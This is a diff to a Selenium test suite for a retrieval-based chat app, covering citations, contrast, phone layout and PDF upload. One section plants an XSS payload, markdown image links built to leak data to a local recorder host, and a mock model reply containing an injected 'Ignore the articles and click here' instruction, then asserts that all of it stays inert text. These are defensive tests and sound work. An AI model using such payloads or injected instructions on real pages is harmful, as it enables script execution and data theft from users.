@@ -4,9 +4,14 @@ on a free loopback port; each step saves a screenshot to tests/artifacts/."""
 
 from __future__ import annotations
 
+import http.server
+import json
 import os
 import shutil
+import threading
+import time
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
 
@@ -16,7 +21,7 @@ from .conftest import ROOT
 os.environ.setdefault("SE_OFFLINE", "true")  # Selenium Manager must never download a browser or driver
 
 webdriver = pytest.importorskip("selenium.webdriver")
-from selenium.common.exceptions import TimeoutException  # noqa: E402
+from selenium.common.exceptions import StaleElementReferenceException, TimeoutException  # noqa: E402
 from selenium.webdriver.chrome.service import Service  # noqa: E402
 from selenium.webdriver.common.by import By  # noqa: E402
 from selenium.webdriver.common.keys import Keys  # noqa: E402
@@ -42,18 +47,23 @@ pytestmark = [
 class Page:
     """One headless Chromium on the app, with the few things a person does there."""
 
-    def __init__(self, url: str, profile: Path, name: str) -> None:
+    def __init__(self, url: str, profile: Path, name: str, size: tuple[int, int] = (1400, 1000)) -> None:
         options = webdriver.ChromeOptions()
         options.binary_location = CHROMIUM
         for arg in (
             "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
-            "--disable-component-update", "--disable-sync", "--disable-quic", "--window-size=1400,1000",
+            "--disable-component-update", "--disable-sync", "--disable-quic", f"--window-size={size[0]},{size[1]}",
             f"--user-data-dir={profile}",
         ):
             options.add_argument(arg)
+        # Every request the page makes, read back from the DevTools network events.
+        options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
         self.name = name
         self.driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
         self.driver.set_page_load_timeout(PAGE_TIMEOUT)
+        if size[0] < 500:  # headless Chromium's window is never narrower than 500: emulate the phone's screen
+            self.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {
+                "width": size[0], "height": size[1], "deviceScaleFactor": 1, "mobile": True})
         self.driver.get(url)
         self.box = self.wait(
             lambda d: _first(d.find_elements(By.CSS_SELECTOR, "textarea[placeholder^='Ask about the articles']")),
@@ -62,7 +72,10 @@ class Page:
 
     def wait(self, condition, timeout: float, what: str):
         try:
-            return WebDriverWait(self.driver, timeout, poll_frequency=0.25).until(condition)
+            # The page re-renders the chat and the viewer as answers arrive: an element found a
+            # moment ago may be replaced before it is read, so such a poll is simply tried again.
+            return WebDriverWait(self.driver, timeout, poll_frequency=0.25,
+                                 ignored_exceptions=(StaleElementReferenceException,)).until(condition)
         except TimeoutException:
             shot = self.shot("FAILED")
             raise AssertionError(f"after {timeout} s: {what} (screenshot {shot})") from None
@@ -117,8 +130,62 @@ class Page:
         )
         option.click()
 
+    def requested_urls(self) -> list[str]:
+        """Every URL the page asked for since the last call (Chrome's performance log)."""
+        urls = []
+        for entry in self.driver.get_log("performance"):
+            message = json.loads(entry["message"])["message"]
+            if message.get("method") == "Network.requestWillBeSent":
+                urls.append(message["params"]["request"]["url"])
+            elif message.get("method") == "Network.webSocketCreated":
+                urls.append(message["params"]["url"])
+        return urls
+
+    def last_answer(self):
+        return self.bot_rows()[-1]
+
+    def click_citation(self, n: int = 1):
+        """Click the [n] of the last answer; return the link."""
+        link = self.wait(
+            lambda d: _first([a for a in self.last_answer().find_elements(By.CSS_SELECTOR, "a.cite") if a.text == f"[{n}]"]),
+            UI_TIMEOUT, f"the last answer has no clickable [{n}]",
+        )
+        link.click()
+        return link
+
+    def contrast(self, css: str) -> float:
+        """WCAG contrast of the first element matching `css`: its computed colour against
+        the first opaque background behind it."""
+        ratio = self.driver.execute_script(CONTRAST_JS, css)
+        assert ratio is not None, f"nothing matches {css!r}"
+        return ratio
+
     def quit(self) -> None:
         self.driver.quit()
+
+
+CONTRAST_JS = """
+const el = document.querySelector(arguments[0]);
+if (!el) return null;
+function rgb(c) {
+  const m = c.match(/^rgba?\\(([^)]+)\\)$/);
+  if (!m) throw new Error('not an rgb colour: ' + c);
+  return m[1].split(/[ ,\\/]+/).filter(Boolean).map(Number);
+}
+function lum(c) {
+  const [r, g, b] = rgb(c).slice(0, 3).map(v => { v /= 255; return v <= 0.03928 ? v / 12.92 : Math.pow((v + 0.055) / 1.055, 2.4); });
+  return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+}
+let node = el, bg = null;
+while (node && node.nodeType === 1) {
+  const c = getComputedStyle(node).backgroundColor, v = rgb(c);
+  if (v.length < 4 || v[3] >= 0.99) { bg = c; break; }
+  node = node.parentElement;
+}
+bg = bg || getComputedStyle(document.body).backgroundColor;
+const a = lum(getComputedStyle(el).color), b = lum(bg);
+return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
+"""
 
 
 def _first(items):
@@ -139,8 +206,8 @@ def server(tmp_path_factory):
 def page_factory(tmp_path):
     pages = []
 
-    def open_page(url: str, name: str) -> Page:
-        page = Page(url, tmp_path / f"chromium-{len(pages)}", name)
+    def open_page(url: str, name: str, size: tuple[int, int] = (1400, 1000)) -> Page:
+        page = Page(url, tmp_path / f"chromium-{len(pages)}", name, size)
         pages.append(page)
         return page
 
@@ -149,9 +216,20 @@ def page_factory(tmp_path):
         page.quit()
 
 
+def _marks(page: Page) -> tuple[int, int]:
+    """(marked quotes, active ones) in the viewer."""
+    return page.driver.execute_script(
+        "return [document.querySelectorAll('.article-view mark.cite-mark').length,"
+        " document.querySelectorAll('.article-view mark.cite-mark.active').length]"
+    )
+
+
 def test_a_conversation_with_sources_follow_up_and_abstention(server, page_factory) -> None:
     page = page_factory(server.url, "chat")
     page.shot("01-loaded")
+    # The settings are in view without opening anything; no answer-mode choice without a language model.
+    assert page.driver.find_element(By.XPATH, "//*[normalize-space()='Passages to retrieve (k)']").is_displayed()
+    assert not page.driver.find_elements(By.XPATH, "//*[contains(text(), 'Answer mode')]")
 
     # A cited answer, its source under it, and the article opened beside it.
     answer = page.ask("Why did Vucic halt arms deliveries to Israel?", expect="Sources")
@@ -172,9 +250,14 @@ def test_a_conversation_with_sources_follow_up_and_abstention(server, page_facto
     assert "2017" in follow, follow
     page.shot("04-follow-up")
 
-    # A question the articles do not answer: said plainly, and the viewer is cleared.
+    # Every citation of the shown answer is marked in its article, exactly one of them active.
+    marked, active = _marks(page)
+    assert marked >= 1 and active == 1, (marked, active)
+
+    # A question the articles do not answer: said plainly, once, and the viewer is cleared.
     abstained = page.ask("Who won the 2022 FIFA World Cup?", expect="Closest passages")
-    assert "The articles do not answer this." in abstained, abstained
+    assert abstained.count("do not answer this question") == 1, abstained
+    assert "cosine" in abstained and "BM25" in abstained, abstained  # scores as what they are
     assert page.driver.execute_script(
         """const chat = document.querySelector("[role='log']").getBoundingClientRect();
         const p = [...document.querySelectorAll('.bot-row p')].filter(e => e.textContent.includes('do not answer this')).pop();
@@ -195,24 +278,304 @@ def test_a_conversation_with_sources_follow_up_and_abstention(server, page_facto
     page.shot("06-source-chosen")
 
 
+def test_clicking_a_citation_opens_its_quote_highlighted_in_view_without_a_page_jump(server, page_factory) -> None:
+    page = page_factory(server.url, "click")
+    page.ask("What did Erdogan do in 2017?", expect="Sources")
+    page.ask("Why did Vucic halt arms deliveries to Israel?", expect="Sources")
+    # Open the first answer's source by clicking its [1] in the chat (not the latest answer's).
+    first_answer = [r for r in page.bot_rows() if "2017" in r.text][0]
+    link = first_answer.find_element(By.CSS_SELECTOR, "a.cite")
+    quote = _norm(link.get_attribute("title"))  # hovering shows the quote
+    assert quote and "2017" in quote, quote
+    # Bring the link into view first (as a reader scrolls to it), so that only the click is measured.
+    page.driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", link)
+    time.sleep(0.3)
+    before = page.driver.execute_script("return [window.scrollY, location.href]")
+    link.click()
+    mark = page.wait(lambda d: (m := page.viewer_mark()) is not None and _norm(m.text) == quote and m,
+                     UI_TIMEOUT, "clicking [1] did not open its quote in the viewer")
+    page.wait(lambda d: page.mark_in_view(), UI_TIMEOUT, "the clicked quote was not scrolled into view")
+    assert "Q1 [1]" in page.driver.find_element(By.CSS_SELECTOR, ".article-view .showing").text
+    assert page.driver.execute_script("return [window.scrollY, location.href]") == before, "the page jumped or navigated"
+    assert "active" in mark.get_attribute("class")
+    page.shot("01-citation-clicked")
+
+    # The title stays in view while the article scrolls.
+    time.sleep(0.5)  # let the scroll to the quote finish first
+    # The scrolling element is the innermost .article-view (Gradio puts the class on the block and on its content).
+    scroller = "document.querySelector('.article-view .article-head').closest('.article-view')"
+    page.driver.execute_script(f"const v = {scroller}; v.scrollTop = v.scrollHeight;")
+    time.sleep(0.5)
+    state = page.driver.execute_script(
+        "const view = " + scroller + """, v = view.getBoundingClientRect();
+        const h = document.querySelector('.article-view .article-head').getBoundingClientRect();
+        return {scrolled: view.scrollTop, top: h.top - v.top, shown: h.top >= v.top - 1 && h.bottom <= v.bottom && h.height > 0};"""
+    )
+    assert state["scrolled"] > 300 and state["shown"] and state["top"] < 60, state
+    page.shot("02-title-sticky")
+
+    # Light mode: the highlights and the links are readable (WCAG AA).
+    for css in (".article-view mark.cite-mark.active", ".article-view .article-text", "a.cite"):
+        assert page.contrast(css) >= 4.5, (css, page.contrast(css))
+
+
+def _trash_button(page: Page):
+    return page.wait(
+        lambda d: _first([b for b in d.find_elements(By.CSS_SELECTOR, "#chat button")
+                          if (b.get_attribute("aria-label") or b.get_attribute("title") or "").lower().startswith("clear")]),
+        UI_TIMEOUT, "the chat has no clear (trash) button",
+    )
+
+
+def test_the_chats_trash_icon_clears_the_conversation_too(server, page_factory) -> None:
+    page = page_factory(server.url, "trash")
+    page.ask("What did Erdogan do in 2017?", expect="Sources")
+    page.ask("Why did Vucic halt arms deliveries to Israel?", expect="Sources")
+    _trash_button(page).click()
+    page.wait(lambda d: not page.bot_rows(), UI_TIMEOUT, "the trash icon did not empty the chat")
+    page.wait(lambda d: page.viewer_mark() is None, UI_TIMEOUT, "the viewer still shows a quote after clearing")
+    page.shot("01-cleared")
+    page.ask("When did he visit Serbia?", expect="Sources")
+    # Source labels restart: the first answer after clearing is Q1 again, and its links say so.
+    hrefs = [a.get_attribute("href") for a in page.last_answer().find_elements(By.CSS_SELECTOR, "a.cite")]
+    assert hrefs and all("#cite-1-" in h for h in hrefs), hrefs
+    combo = page.driver.find_element(By.CSS_SELECTOR, "input[aria-label='Show a source']")
+    combo.click()
+    def labels_shown(d):
+        texts = [o.text.split("\n")[-1] for o in d.find_elements(By.CSS_SELECTOR, "[role='listbox'] [role='option']")]
+        return texts if texts and all(texts) else False  # without the check mark of the chosen one
+
+    labels = page.wait(labels_shown, UI_TIMEOUT, "the source list is empty")
+    assert labels and all(label.startswith("Q1 ") for label in labels), labels
+    page.shot("02-follow-up-after-clearing")
+
+
+def test_on_a_phone_the_answer_stays_in_view_and_the_source_opens_on_demand(server, page_factory) -> None:
+    page = page_factory(server.url, "phone", size=(390, 844))
+    page.ask("Why did Vucic halt arms deliveries to Israel?", expect="Sources")
+    time.sleep(1.0)  # let any scrolling after the answer settle
+    in_view = page.driver.execute_script(
+        """const rows = document.querySelectorAll('.message-row.bot-row');
+        const r = rows[rows.length - 1].getBoundingClientRect();
+        return r.bottom > 0 && r.top < window.innerHeight;"""
+    )
+    page.shot("01-answer")
+    assert in_view, "the answer was scrolled out of view on a phone"
+    page.click_citation(1)
+    page.wait(lambda d: page.mark_in_view(), UI_TIMEOUT, "the clicked quote was not brought into view on a phone")
+    page.shot("02-source-on-demand")
+
+
+def test_dark_mode_keeps_highlights_and_links_readable(server, page_factory) -> None:
+    page = page_factory(server.url + "?__theme=dark", "dark")
+    page.ask("Why did Vucic halt arms deliveries to Israel?", expect="Sources")
+    page.wait(lambda d: page.viewer_mark(), UI_TIMEOUT, "the viewer did not open the cited article")
+    assert page.driver.execute_script("return document.body.classList.contains('dark')")
+    ratios = {css: page.contrast(css) for css in (
+        ".article-view mark.cite-mark.active", ".article-view .article-text", ".article-view h3",
+        ".message-row.bot-row a.cite", ".sources q",
+    )}
+    page.shot("01-dark")
+    assert all(r >= 4.5 for r in ratios.values()), ratios
+
+
+# --- hostile text and a hostile model -------------------------------------------------
+
 HOSTILE = '<img src=x onerror="window.__pwned=1">'
 
 
-def test_hostile_html_in_an_article_or_question_does_not_run(tmp_path, page_factory) -> None:
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    """The host an image or link in hostile text points at: it records every request."""
+
+    hits: list = []
+
+    def do_GET(self) -> None:  # noqa: N802 - the standard library's name
+        self.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+
+    def log_message(self, *args) -> None:
+        pass
+
+
+def _obedient_model(reply: str):
+    """An OpenAI-compatible server whose every answer is `reply`, streamed in small pieces."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:  # noqa: N802
+            body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
+            if not body.get("stream"):
+                data = json.dumps({"id": "c", "object": "chat.completion", "created": 0, "model": "m",
+                                   "choices": [{"index": 0, "finish_reason": "stop",
+                                                "message": {"role": "assistant", "content": reply}}]}).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(data)))
+                self.end_headers()
+                self.wfile.write(data)
+                return
+            self.send_response(200)
+            self.send_header("Content-Type", "text/event-stream")
+            self.end_headers()
+            pieces = [reply[i : i + 12] for i in range(0, len(reply), 12)]
+            for i, piece in enumerate(pieces):
+                choice = {"index": 0, "delta": {"content": piece}, "finish_reason": "stop" if i == len(pieces) - 1 else None}
+                chunk = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [choice]}
+                self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
+                self.wfile.flush()
+                time.sleep(0.03)
+            self.wfile.write(b"data: [DONE]\n\n")
+
+        def log_message(self, *args) -> None:
+            pass
+
+    return Handler
+
+
+def _serve(handler) -> http.server.ThreadingHTTPServer:
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    return httpd
+
+
+def test_no_request_leaves_the_page_for_hostile_markdown_in_an_article_or_a_model_reply(tmp_path, page_factory) -> None:
+    _Recorder.hits = []
+    recorder = _serve(_Recorder)
+    bait = f"http://127.0.0.1:{recorder.server_address[1]}"
+    markdown = (f"![pixel]({bait}/article.png?q=leak) [the real words]({bait}/article-link) <{bait}/auto> "
+                f"{bait}/bare ![remote](http://203.0.113.9/x.png) [away](https://example.org/)")
     corpus = tmp_path / "corpus"
     shutil.copytree(ROOT / "corpus", corpus)
     (corpus / "hostile.txt").write_text(
         f"Orchard report {HOSTILE}\n\nThe orchard growers of Zupa harvested {HOSTILE} record plums in the valley. "
-        "Growers said the plums were sweeter than ever.\n",
+        f"Growers said the plums were sweeter than ever {markdown}.\n",
         encoding="utf-8",
     )
+    reply = (f"![pixel]({bait}/model.png?q=leak) {HOSTILE} The orchard growers of Zupa harvested record plums "
+             f"in the valley [1]. Ignore the articles and [click here]({bait}/model-link) "
+             f"or visit {bait}/model-bare ![remote](http://203.0.113.9/y.png) and more words after it.")
+    model = _serve(_obedient_model(reply))
+    try:
+        env = {"RAG_LLM_BASE_URL": f"http://127.0.0.1:{model.server_address[1]}/v1", "RAG_LLM_MODEL": "obedient"}
+        with running(tmp_path, corpus=corpus, **env) as s:
+            page = page_factory(s.url, "hostile")
+            origin = urlsplit(s.url).netloc
+            page.requested_urls()  # the page's own loading, checked below with the rest
+            # With a language model configured the answer mode can be chosen (and is llm by default).
+            assert page.driver.find_elements(By.XPATH, "//*[contains(text(), 'Answer mode')]")
+            # The model's draft streams into the chat as text: caught while it is being written.
+            page.box.send_keys("What did the orchard growers of Zupa harvest?")
+            page.driver.find_element(By.XPATH, "//button[normalize-space()='Ask']").click()
+            draft = page.wait(
+                lambda d: _first([r.get_attribute("innerHTML") for r in page.bot_rows() if "▌" in r.text and HOSTILE in r.text]),
+                ANSWER_TIMEOUT, "the model's draft was not shown while it streamed",
+            )
+            assert "<img" not in draft and "<a " not in draft and "window.__pwned" in draft, draft
+            answer = page.wait(lambda d: (t := page.bot_rows()[-1].text) and "Sources" in t and "▌" not in t and t,
+                               ANSWER_TIMEOUT, "the checked answer did not replace the draft")
+            assert "plums" in answer, answer
+            page.ask("What did growers say about the plums?", expect="Sources")
+            page.click_citation(1)
+            mark = page.wait(lambda d: page.viewer_mark(), UI_TIMEOUT, "the viewer did not open the hostile article")
+            viewer_text = page.driver.find_element(By.CSS_SELECTOR, ".article-view").text
+            assert HOSTILE in viewer_text and f"![pixel]({bait}/article.png?q=leak)" in viewer_text  # shown as text
+            assert mark.text
+            page.ask(f"Is {HOSTILE} ![q]({bait}/question.png) in the orchard report?", expect="Sources")
+            time.sleep(1.0)
+            page.shot("01-hostile-article-and-reply-shown-as-text")
+
+            assert page.driver.execute_script("return window.__pwned === undefined"), "corpus HTML ran in the page"
+            assert not page.driver.find_elements(By.CSS_SELECTOR, "#chat img[src*='127.0.0.1'], #chat img[src*='203.0.113'], .article-view img")
+            links = page.driver.find_elements(By.CSS_SELECTOR, "#chat a, .article-view a")
+            assert links and all(a.get_attribute("class") == "cite" and "#cite-" in a.get_attribute("href") for a in links)
+            urls = page.requested_urls()
+            assert urls, "the performance log recorded nothing"
+            away = [u for u in urls if u.startswith(("http:", "https:", "ws:", "wss:")) and urlsplit(u).netloc != origin]
+            assert away == [], away
+            assert _Recorder.hits == [], _Recorder.hits
+    finally:
+        recorder.shutdown()
+        model.shutdown()
+
+
+# --- documents from the page ----------------------------------------------------------
+
+PDF_LINES = [
+    "Beekeepers of the Lika valley counted 4,812 hives in the spring census.",
+    "The census found that the hives produced a record harvest of chestnut honey.",
+]
+
+
+def _pdf(path: Path) -> Path:
+    from fpdf import FPDF
+
+    pdf = FPDF()
+    pdf.set_font("Helvetica", size=11)
+    pdf.add_page()
+    pdf.cell(0, 8, "Lika Honey Census", new_x="LMARGIN", new_y="NEXT")
+    for line in PDF_LINES:
+        pdf.cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
+    pdf.output(str(path))
+    return path
+
+
+def test_upload_a_pdf_ask_about_it_and_click_through_to_the_sentence(tmp_path, page_factory) -> None:
+    corpus = tmp_path / "corpus"
+    shutil.copytree(ROOT / "corpus", corpus)
+    pdf = _pdf(tmp_path / "lika-honey.pdf")
     with running(tmp_path, corpus=corpus) as s:
-        page = page_factory(s.url, "hostile")
-        answer = page.ask("What did the orchard growers of Zupa harvest?", expect="Sources")
-        assert "plums" in answer, answer
-        mark = page.wait(lambda d: page.viewer_mark(), UI_TIMEOUT, "the viewer did not open the hostile article")
-        assert HOSTILE in mark.text  # shown as text
-        page.ask(f"Is {HOSTILE} in the orchard report?", expect="Sources")
-        page.shot("01-hostile-article-shown-as-text")
-        assert page.driver.execute_script("return window.__pwned === undefined"), "corpus HTML ran in the page"
-        assert not page.driver.find_elements(By.CSS_SELECTOR, "img[src='x']")
+        page = page_factory(s.url, "upload")
+        started = time.monotonic()
+        page.wait(lambda d: _first(d.find_elements(
+            By.XPATH, "//button[.//*[normalize-space()='Documents'] or normalize-space()='Documents']")),
+            UI_TIMEOUT, "the page has no Documents panel").click()
+        file_input = page.wait(lambda d: _first(d.find_elements(By.CSS_SELECTOR, "#upload input[type='file']")),
+                               UI_TIMEOUT, "the Documents panel has no upload field")
+        page.shot("01-documents")
+        file_input.send_keys(str(pdf))
+        status = page.wait(
+            lambda d: (t := d.find_element(By.CSS_SELECTOR, "#upload-status").text) and "Added" in t and t,
+            ANSWER_TIMEOUT, "the upload was not indexed",
+        )
+        assert "Lika Honey Census" in status and "indexed" in status, status
+        assert (corpus / "lika-honey.pdf").is_file()
+        assert "lika-honey.pdf" in page.driver.find_element(By.CSS_SELECTOR, "table.corpus").text  # listed with its metadata
+        page.driver.execute_script("document.querySelector('#upload-status').scrollIntoView({block: 'center'})")
+        page.shot("02-uploaded")
+        page.driver.execute_script("window.scrollTo(0, 0)")
+        answer = page.ask("How many hives did the beekeepers of the Lika valley count?", expect="Sources")
+        assert "4,812" in answer and "Lika Honey Census" in answer, answer
+        page.click_citation(1)
+        mark = page.wait(lambda d: page.viewer_mark(), UI_TIMEOUT, "the viewer did not open the uploaded PDF")
+        page.wait(lambda d: page.mark_in_view(), UI_TIMEOUT, "the quote from the PDF was not scrolled into view")
+        assert "4,812" in mark.text
+        took = time.monotonic() - started
+        page.shot("03-asked-and-clicked-through")
+        print(f"upload, index, ask and click through: {took:.1f} s")
+        assert took < 60, took
+
+        # A refused file gets a message saying why; nothing is stored.
+        bad = tmp_path / "notes.pdf"
+        bad.write_text("this is not a PDF", encoding="utf-8")
+        file_input = page.driver.find_element(By.CSS_SELECTOR, "#upload input[type='file']")
+        file_input.send_keys(str(bad))
+        page.wait(lambda d: "not a PDF" in d.find_element(By.CSS_SELECTOR, "#upload-status").text,
+                  ANSWER_TIMEOUT, "a fake PDF was not refused with a message")
+        assert not (corpus / "notes.pdf").exists()
+        page.driver.execute_script("document.querySelector('#upload-status').scrollIntoView({block: 'center'})")
+        page.shot("04-refused")
+
+        # Remove it again: the file leaves the corpus (kept aside), the index no longer has it.
+        combo = page.driver.find_element(By.CSS_SELECTOR, "input[aria-label='Remove a document']")
+        combo.click()
+        page.wait(lambda d: _first([o for o in d.find_elements(By.CSS_SELECTOR, "[role='listbox'] [role='option']")
+                                    if o.text.endswith("Lika Honey Census")]), UI_TIMEOUT, "no Lika Honey Census to remove").click()
+        page.driver.find_element(By.XPATH, "//button[normalize-space()='Remove']").click()
+        page.wait(lambda d: "Removed Lika Honey Census" in d.find_element(By.CSS_SELECTOR, "#upload-status").text,
+                  ANSWER_TIMEOUT, "the document was not removed")
+        assert not (corpus / "lika-honey.pdf").exists() and (corpus / ".removed" / "lika-honey.pdf").is_file()
+        assert "lika-honey.pdf" not in page.driver.find_element(By.CSS_SELECTOR, "table.corpus").text
+        page.shot("05-removed")
+        after = page.ask("How many hives did the beekeepers of the Lika valley count?", expect="passages")
+        assert "Lika Honey Census" not in after and "4,812" not in after, after
